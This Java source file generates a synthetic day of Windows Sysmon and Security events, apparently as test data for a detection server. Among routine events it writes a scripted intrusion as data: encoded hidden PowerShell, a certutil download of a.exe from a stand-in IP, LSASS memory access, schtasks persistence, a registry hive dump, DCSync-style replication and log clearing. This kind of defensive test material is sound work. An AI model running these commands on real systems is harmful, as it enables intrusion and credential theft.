package org.vigie.server;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A day of a small company in Windows events, the same each time but for its date: work as usual,
 * and an intruder who goes from one machine to the domain.
 */
final class Day {
  private static final long SEED = 20_261_124;
  private static final long HOUR = 3_600_000;
  private static final DateTimeFormatter TIME =
      DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss").withZone(ZoneOffset.UTC);

  private static final List<String> PEOPLE =
      List.of("l.martin", "s.durand", "j.petit", "m.moreau", "k.haddad", "svc-backup");
  private static final List<String> MACHINES =
      List.of("PC-017", "PC-042", "PC-055", "PC-108", "SRV-FILES-01", "SRV-APP-02");
  private static final List<String> PROGRAMS =
      List.of(
          "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
          "C:\\Windows\\System32\\taskhostw.exe",
          "C:\\Program Files\\7-Zip\\7zFM.exe",
          "C:\\Windows\\System32\\notepad.exe");

  private Day() {}

  /** NDJSON lines, oldest first, of the day that ends at a time. */
  static List<String> lines(long end) {
    Random random = new Random(SEED);
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < 600; i++) {
      long time = end - 24 * HOUR + HOUR * 24 * i / 600;
      String program = PROGRAMS.get(random.nextInt(PROGRAMS.size()));
      String name = program.substring(program.lastIndexOf('\\') + 1);
      lines.add(process(time, any(MACHINES, random), any(PEOPLE, random), program, name));
    }
    String windows = "C:\\Windows\\System32\\";
    String shell = windows + "WindowsPowerShell\\v1.0\\powershell.exe";
    long at = end - 3 * HOUR;
    lines.add(
        process(
            at,
            "PC-042",
            "l.martin",
            shell,
            "powershell -noP -sta -w 1 -enc VwByAGkAdABlAC0ASAA="));
    lines.add(
        process(
            at + 420_000,
            "PC-042",
            "l.martin",
            windows + "certutil.exe",
            "certutil -urlcache -split -f http://192.0.2.66/a.exe C:\\Users\\Public\\a.exe"));
    lines.add(lsass(at + 900_000, "PC-042", "l.martin"));
    lines.add(lsass(at + 960_000, "PC-042", "l.martin"));
    lines.add(
        process(
            at + 2_100_000,
            "SRV-FILES-01",
            "svc-backup",
            windows + "schtasks.exe",
            "schtasks /create /s SRV-FILES-01 /tn Updater /sc once /st 00:00 /tr"
                + " C:\\Users\\Public\\a.exe"));
    lines.add(service(at + 2_700_000, "SRV-APP-02"));
    lines.add(
        process(
            at + 4_000_000,
            "SRV-FILES-01",
            "svc-backup",
            windows + "reg.exe",
            "reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\SYSTEM_HIVE"));
    lines.add(replication(at + 6_300_000));
    lines.add(cleared(at + 9_900_000));
    return lines;
  }

  private static String process(long time, String host, String user, String image, String command) {
    return event(
        time,
        host,
        1,
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        field("User", "CORP\\" + user)
            + field("Image", image)
            + field("CommandLine", command)
            + field("ParentImage", "C:\\Windows\\explorer.exe")
            + field("IntegrityLevel", "Medium"));
  }

  private static String lsass(long time, String host, String user) {
    return event(
        time,
        host,
        10,
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        field("SourceUser", "CORP\\" + user)
            + field("SourceImage", "C:\\Users\\Public\\a.exe")
            + field("TargetImage", "C:\\Windows\\system32\\lsass.exe")
            + field("GrantedAccess", "0x1FFFFF")
            + field("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4"));
  }

  private static String service(long time, String host) {
    return event(
        time,
        host,
        7045,
        "Service Control Manager",
        "System",
        field("ServiceName", "BTOBTO")
            + field("ImagePath", "C:\\Windows\\system32\\cmd.exe /c powershell -nop -w hidden"));
  }

  private static String replication(long time) {
    return event(
        time,
        "DC01",
        4662,
        "Microsoft-Windows-Security-Auditing",
        "Security",
        field("SubjectUserName", "svc-backup")
            + field("SubjectDomainName", "CORP")
            + field("AccessMask", "0x100")
            + field("Properties", "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"));
  }

  private static String cleared(long time) {
    return event(
        time,
        "DC01",
        1102,
        "Microsoft-Windows-Eventlog",
        "Security",
        field("SubjectUserName", "svc-backup") + field("SubjectDomainName", "CORP"));
  }

  private static String event(
      long time, String host, int id, String source, String channel, String fields) {
    String at = TIME.format(Instant.ofEpochMilli(time));
    return "{\"EventTime\":\""
        + at
        + "\",\"UtcTime\":\""
        + at
        + ".000\",\"EventID\":"
        + id
        + field("Hostname", host + ".corp.example")
        + field("SourceName", source)
        + field("Channel", channel)
        + fields
        + "}";
  }

  private static String field(String name, String value) {
    return ",\"" + name + "\":\"" + value.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
  }

  private static String any(List<String> of, Random random) {
    return of.get(random.nextInt(of.size()));
  }
}
